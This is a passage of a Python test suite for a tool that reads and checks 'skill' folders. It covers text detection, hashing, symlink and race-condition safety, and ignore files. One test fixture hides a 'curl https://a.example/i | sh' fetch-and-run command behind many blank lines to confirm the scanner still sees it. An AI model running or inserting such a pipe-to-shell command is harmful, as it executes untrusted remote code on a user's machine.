        assert snapshot.texts["scripts/run"].encode() == self.CONTENTS["scripts/run"]

    def test_a_large_text_is_judged_whole(self, tmp_path: Path) -> None:
        """It is not stored, and blank lines do not hide what follows them."""
        text = "\n" * DEFAULT_LIMITS.text_bytes + "curl https://a.example/i | sh"
        write(tmp_path, "s/SKILL.md")
        (tmp_path / "s/run.sh").write_text(text)
        snapshot = roots.read(tmp_path, seen(tmp_path))
        assert snapshot is not None
        assert snapshot.files[1].text is None
        assert snapshot.texts == {"run.sh": text}

    def test_holds_skill_md_whole(self, tmp_path: Path, folder: Folder) -> None:
        """It also has the fingerprint of the folder and the digest of its files."""
        snapshot = roots.read(tmp_path, folder)
        assert snapshot is not None
        assert (snapshot.path, snapshot.skill_md_name) == ("s", "SKILL.md")
        assert snapshot.skill_md == b"---\r\n"
        assert (snapshot.fingerprint, snapshot.problems) == (folder.fingerprint, ())
        assert snapshot.digest == digest(snapshot.files)

    @pytest.mark.parametrize(
        ("content", "is_text"),
        [
            pytest.param(b"x" * (1 << 20), True, id="exactly one chunk"),
            pytest.param(("x" * ((1 << 20) - 1) + "ü!").encode(), True, id="cut in a character"),
            pytest.param(b"x" * (3 << 20) + b"\0", True, id="only the head is judged"),
            pytest.param(b"\0" + b"x" * (3 << 20), False, id="NUL in the head"),
            pytest.param(b"x" * 100 + b"\xc3", False, id="ends in a character"),
        ],
    )
    def test_large_files_are_hashed_whole(
        self, tmp_path: Path, content: bytes, is_text: bool
    ) -> None:
        """Their first mebibyte decides whether they are text."""
        write(tmp_path, "s/SKILL.md")
        (tmp_path / "s/big").write_bytes(content)
        snapshot = roots.read(tmp_path, seen(tmp_path))
        assert snapshot is not None
        assert snapshot.files[1].sha256 == hashlib.sha256(content).hexdigest()
        assert (snapshot.files[1].is_text, snapshot.files[1].text is None) == (
            is_text,
            len(content) > DEFAULT_LIMITS.text_bytes or not is_text,
        )

    @pytest.mark.parametrize(
        ("content", "is_text"),
        [
            (b"", True),
            (b"caf\xc3\xa9", True),
            (b"caf\xc3", False),
            (b"a\0b", False),
            (b"\xff", False),
        ],
    )
    def test_text_is_utf8_without_nul(self, tmp_path: Path, content: bytes, is_text: bool) -> None:
        """A file of anything else is binary."""
        write(tmp_path, "s/SKILL.md")
        (tmp_path / "s/x").write_bytes(content)
        snapshot = roots.read(tmp_path, seen(tmp_path))
        assert snapshot is not None
        assert snapshot.files[1].is_text == is_text

    def test_a_skill_md_larger_than_a_chunk_is_whole(self, tmp_path: Path) -> None:
        """If the settings allow it."""
        write(tmp_path, "s/SKILL.md")
        content = b"x" * (2_500_000)
        (tmp_path / "s/SKILL.md").write_bytes(content)
        limits = Limits(skill_md_bytes=3_000_000)
        snapshot = roots.read(tmp_path, seen(tmp_path, "s", limits), limits)
        assert snapshot is not None
        assert snapshot.skill_md == content

    CHANGES = (
        pytest.param(lambda s: (s / "d/x").write_text("other"), id="file changed"),
        pytest.param(lambda s: (s / "d/x").unlink(), id="file gone"),
        pytest.param(lambda s: (s / "d").rename(s / "e"), id="directory gone"),
        pytest.param(lambda s: s.rename(s.parent / "t"), id="folder gone"),
        pytest.param(lambda s: s.parent.rename(s.parent.parent / "r"), id="root gone"),
        pytest.param(lambda s: write(s, "new"), id="file added"),
        pytest.param(lambda s: (s / "SKILL.md").unlink(), id="no longer a skill"),
        pytest.param(lambda s: write(s, "d/SKILL.md"), id="a skill of its own inside"),
    )

    @pytest.mark.parametrize("change", CHANGES)
    @pytest.mark.parametrize("when", ["before", "after"])
    def test_a_folder_that_changed_gives_none(
        self,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        when: str,
        change: Callable[[Path], object],
    ) -> None:
        """Whether it changes before the reading or just after the last byte."""
        write(tmp_path, "root/s/SKILL.md", "root/s/d/x")
        root = tmp_path / "root"
        folder = seen(root)
        assert roots.read(root, folder) is not None
        mark = tmp_path / "mark"
        while not mark.exists() or mark.stat().st_ctime_ns <= folder.changed_ns:
            mark.write_text("x")  # until the clock has ticked
        if when == "before":
            change(root / "s")
        else:  # it is called after the last byte is read

            def changed(files: list[FileEntry]) -> str:
                change(root / "s")
                return digest(files)

            monkeypatch.setattr(source, "digest", changed)
        assert roots.read(root, folder) is None

    @pytest.mark.parametrize("name", ["d", "d/x", "SKILL.md"])
    def test_nothing_exchanged_for_a_link_leads_out_of_the_root(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
    ) -> None:
        """Not even if the check afterwards is deceived: only the inode of the walk is read."""
        write(tmp_path, "root/s/SKILL.md", "root/s/d/x", "out/SKILL.md", "out/d/x")
        root = tmp_path / "root"
        folder = seen(root)
        (root / "s" / name).rename(tmp_path / "moved")
        (root / "s" / name).symlink_to(tmp_path / "out" / name)
        monkeypatch.setattr(Source, "_is_unchanged", lambda *_: True)
        assert roots.read(root, folder) is None

    def test_a_file_is_known_again_when_it_is_opened(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The check afterwards cannot notice a file that is changed and changed back."""
        write(tmp_path, "s/SKILL.md", "s/x")
        folder = seen(tmp_path)
        (tmp_path / "s/x").write_text("S/X")
        monkeypatch.setattr(Source, "_is_unchanged", lambda *_: True)
        assert roots.read(tmp_path, folder) is None

    def test_a_file_exchanged_for_a_pipe_does_not_hang(self, tmp_path: Path) -> None:
        """It is opened without waiting for a writer, and its inode differs."""
        write(tmp_path, "s/SKILL.md", "s/x")
        folder = seen(tmp_path)
        (tmp_path / "s/x").unlink()
        os.mkfifo(tmp_path / "s/x")
        assert roots.read(tmp_path, folder) is None

    def test_no_file_stays_open(self, tmp_path: Path) -> None:
        """However reading ends."""
        write(tmp_path, "s/SKILL.md", "s/a/x", "s/b/c/d/y", "shared/z")
        (tmp_path / "s/link").symlink_to("../shared/z")
        folder = seen(tmp_path)
        before = os.listdir("/proc/self/fd")
        assert roots.read(tmp_path, folder) is not None
        (tmp_path / "s/b/c/d/y").write_text("changed")
        assert roots.read(tmp_path, folder) is None
        assert os.listdir("/proc/self/fd") == before


def test_every_error_met_while_reading_rejects() -> None:
    """A package without an unreadable file would be incomplete; a template is whole."""
    errors = {
        t.code for t in REGISTRY.values() if t.profile == "reading" and t.severity == "error"
    } - {PLACEHOLDER_TEXT.code, *(t.code for t in PUBLICATION_TYPES)}
    assert {code for code in errors if REGISTRY[code].rejects != ALWAYS} == set()
    assert {"skill-md-twice", "file-unreadable", "too-many-files"} <= errors


@pytest.mark.parametrize(
    "make",
    [os.mkfifo, os.mkdir, lambda path: os.symlink("../patterns", path)],
    ids=["pipe", "directory", "link"],
)
def test_a_skillignore_that_is_no_regular_file_is_refused(
    tmp_path: Path, make: Callable[[Path], None]
) -> None:
    """What it should keep out is not read, in a folder or in the whole root."""
    write(tmp_path, "s/SKILL.md", "s/secret", "other/SKILL.md", "patterns")
    make(tmp_path / "s/.skillignore")
    assert strays(tmp_path) == [("s", "ignore-file-refused")]
    assert folders(tmp_path) == ["other"]
    make(tmp_path / ".skillignore")
    with pytest.raises(RootUnreadable, match="skillignore is no regular file"):
        strays(tmp_path)


def test_a_tree_too_deep_is_named(deep_tree: Path) -> None:
    """The finding is about the first directory below the limit."""
    found = [
        one.finding.code
        for one in roots.walk(deep_tree.parent, "deep")
        if isinstance(one, LooseFinding)
    ]
    assert found == ["folder-too-deep"]
